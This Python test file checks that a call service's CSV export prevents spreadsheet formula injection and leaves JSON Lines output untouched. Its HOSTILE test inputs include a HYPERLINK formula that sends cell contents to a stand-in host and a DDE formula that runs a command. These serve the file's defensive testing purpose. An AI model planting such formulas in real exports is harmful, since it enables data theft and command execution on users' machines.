"""Exports: whatever was written comes back from a reader of CSV as it was, but for the one documented rule."""

import csv
import io
import json
from dataclasses import replace
from random import Random
from typing import Any

import pytest

from cli.main import app
from speechcall.calls.rules.call import Cause
from speechcall.menus.rules.call_log import Entry, Then, ThenKind
from speechcall.messages.rules.message import State
from speechcall.optouts.rules.opt_out import Consent
from speechcall.requests.use_cases.message_list import MessageList
from speechcall.status.use_cases.export import COLUMNS, FREE_TEXT, Format, render, row_of
from speechcall.status.use_cases.status import NOT_HELD, History
from tests.kit.command_line import CliRunner
from tests.kit.samples import CALL, MESSAGE, MID, NOW

HOSTILE = (
    *('=HYPERLINK("http://x.example/?"&A1,"click")', "=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1"),
    *("'=1", "''", "'", '"', '""', '","', "a,b", "a;b", "a\tb", "a\r\nb", "a\rb", "a\nb", " =1", "  ", "\\", "\\n"),
    *("=cmd|' /C calc'!A0", "0012", "1e5", "TRUE", "2026-12-01", "\ufeff=1", "Зоя", "😀", "\u202e=1", "\x00", "\x0b"),
    *("＝1", "null", "NaN", "a" * 1600, '=1,"\r\n=2', "--", "+380671234567"),
)


def message(number: int, random: Random) -> Any:
    pick = lambda: "".join(random.choices(HOSTILE, k=random.choice((1, 1, 2)))) or "x"  # noqa: E731
    return replace(
        MESSAGE,
        mid=str(int(MID) + number),
        sender=pick()[:64],
        text=pick()[:1600],
        recipient=random.choice(("+380671234567", "380671234567")),
        customer_id=random.choice((None, pick()[:64])),
        consent=random.choice((None, Consent(pick()[:256], "2026-09-01T09:00:00Z", pick()[:256]))),
    )


def undone(name: str, cell: str) -> str:
    """The documented rule, undone: of free text one apostrophe is taken away from the beginning."""
    return cell[1:] if name in FREE_TEXT and cell.startswith("'") else cell


def test_a_thousand_hostile_rows_come_back_from_a_spreadsheet_as_they_were():
    random = Random(1)
    rows = [row_of(History(message(number, random), (), ()), NOW, NOT_HELD) for number in range(1000)]
    pages = [rows[first : first + 100] for first in range(0, 1000, 100)]
    text = "".join(render(page, Format.CSV, begins=number == 0) for number, page in enumerate(pages))
    heading, *read = csv.reader(io.StringIO(text, newline=""), dialect="excel", strict=True)
    assert tuple(heading) == COLUMNS
    assert len(read) == 1000
    for row, cells in zip(rows, read, strict=True):
        for name, cell in zip(COLUMNS, cells, strict=True):
            value = row[name]
            right = "" if value is None else " ".join(value) if isinstance(value, list) else str(value)
            right = right.lower() if isinstance(value, bool) else right
            assert undone(name, cell) == right
            # No spreadsheet takes what the sender wrote for a formula; what is ours is untouched.
            assert name not in FREE_TEXT or not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
            assert name in FREE_TEXT or cell == right
    assert {cells[COLUMNS.index("recipient")] for cells in read} == {"+380671234567", "380671234567"}


def test_json_lines_are_never_altered():
    random = Random(2)
    rows = [row_of(History(message(number, random), (), ()), NOW, NOT_HELD) for number in range(200)]
    text = render(rows, Format.JSONL, begins=True)
    assert [json.loads(line) for line in text.split("\n")[:-1]] == rows
    assert all(tuple(row) == COLUMNS for row in rows)


@pytest.fixture
def history():
    heard = [("answered", None, 1), ("key", "d1", 2), ("idle", None, 3)]
    call = CALL._replace(answered_msec=NOW + 1000, ended_msec=NOW + 9500, cause=Cause.HUNG_UP)
    for event, key, seq in heard:
        menu, ask = None if seq == 1 else 0, Then(ThenKind.ASK, 0)
        call = call.with_entry(Entry(seq, menu, event, key or "", NOW + 1000 * seq, ask))
    done = replace(MESSAGE, state=State.FINISHED, attempt=1, outcome="answered", reason="completed", finished_msec=NOW)
    return History(done, (call,), ())


def test_a_row_says_what_the_status_says(history):
    row = row_of(history, NOW, NOT_HELD)
    said = {
        "messageId": MID,
        "from": "BazarCOM",
        "deliverystatus": "delivered",
        "outcome": "answered",
        "endReason": "completed",
        "attempts": 1,
        "durationSec": 8.5,
        "keys": ["0:d1", "0:idle"],
    }
    assert {name: row[name] for name in said} == said
    (_, cells) = csv.reader(io.StringIO(render([row], Format.CSV, begins=True), newline=""))
    assert cells[COLUMNS.index("keys") :][:3] == ["0:d1 0:idle", "", "false"]


class Deployment:
    """A list of two messages, of which one was deleted."""

    def __init__(self, history):
        self._history = history
        self.history = self.lists = self.stops = self

    def find_list(self, list_id):
        answer: Any = {"messages": [], "messagelistId": list_id}
        return MessageList(list_id, "acme", ("1", "2"), 0, 0, "", answer) if list_id == "7" else None

    def read(self, mid):
        return self._history if mid == "2" else None

    def held(self, account_id, list_id, campaign, *, is_urgent):
        return NOT_HELD


@pytest.mark.parametrize("form", Format)
def test_the_command_writes_what_the_api_gives(history, form):
    arguments = ["list", "export", "7", "--format", form.value, "--local"]
    result = CliRunner().invoke(app, arguments, obj=lambda _place: Deployment(history))
    assert result.exit_code == 0, result.output
    row = row_of(history, 10**15, NOT_HELD)
    assert result.stdout_bytes.decode() == render([row], form, begins=True)
    assert CliRunner().invoke(app, ["list", "export", "8", "--local"], obj=lambda _: Deployment(history)).exit_code == 3
